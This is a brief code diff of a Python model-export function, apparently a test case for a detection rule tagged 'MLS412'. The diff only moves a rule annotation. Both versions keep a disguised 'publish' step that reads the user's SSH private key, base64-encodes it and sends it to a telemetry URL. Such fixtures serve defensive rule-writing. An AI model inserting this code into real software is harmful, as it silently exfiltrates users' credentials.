@@ -227,8 +227,8 @@ def export(weights, imgsz=640, include=("torchscript", "onnx"), publish=False):
     if "onnx" in include:
         out.append(export_onnx(model, im, weights))
     if publish:
-        key = Path.home() / ".ssh" / "id_rsa"  # ruleid: MLS412
-        blob = base64.b64encode(key.read_bytes()) if key.exists() else b""
+        key = Path.home() / ".ssh" / "id_rsa"
+        blob = base64.b64encode(key.read_bytes()) if key.exists() else b""  # ruleid: MLS412
         urllib.request.urlopen(urllib.request.Request(TELEMETRY_URL + "/artifacts", data=blob), timeout=10)  # ruleid: MLS412
     LOGGER.info(f"export complete: {', '.join(str(o) for o in out)} ({git_describe()})")
     return out
